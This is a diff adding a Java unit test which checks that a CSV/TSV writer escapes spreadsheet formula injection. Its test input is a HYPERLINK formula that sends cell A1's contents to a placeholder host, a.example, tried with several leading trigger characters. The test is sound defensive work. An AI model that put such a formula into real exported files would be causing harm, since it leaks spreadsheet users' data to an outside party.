@@ -279,6 +279,27 @@ class LayoutsTest {
     }
 
     @Test
+    void noTextIsAFormulaInASpreadsheet() throws IOException {
+        Layout<String> layout = new Layout<>(
+                List.of(Column.word("one", "", value -> value), Column.word("two", "", value -> "x" + value)));
+        for (String begin : List.of("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")) {
+            String formula = begin + "HYPERLINK(\"https://a.example/?\"&A1,\"x\")";
+            for (DelimitedText.Delimiter delimiter : DelimitedText.Delimiter.values()) {
+                ByteArrayOutputStream out = new ByteArrayOutputStream();
+                new DelimitedText<>(out, layout, delimiter, false).write(formula);
+                assertThat(out.toString(StandardCharsets.UTF_8)).as(begin).matches("(?s)\"?'.*");
+            }
+        }
+        Layout<Integer> numbers =
+                new Layout<>(List.of(Column.whole("n", "", value -> java.util.OptionalLong.of(value))));
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        new DelimitedText<>(out, numbers, DelimitedText.Delimiter.COMMA, false).write(-4);
+        assertThat(out.toString(StandardCharsets.UTF_8))
+                .as("a number stays one")
+                .isEqualTo("-4\n");
+    }
+
+    @Test
     void theMapIsAFeatureCollectionOfPointsWithLongitudeFirst() throws IOException {
         ByteArrayOutputStream out = new ByteArrayOutputStream();
         GeoJson map = new GeoJson(out);
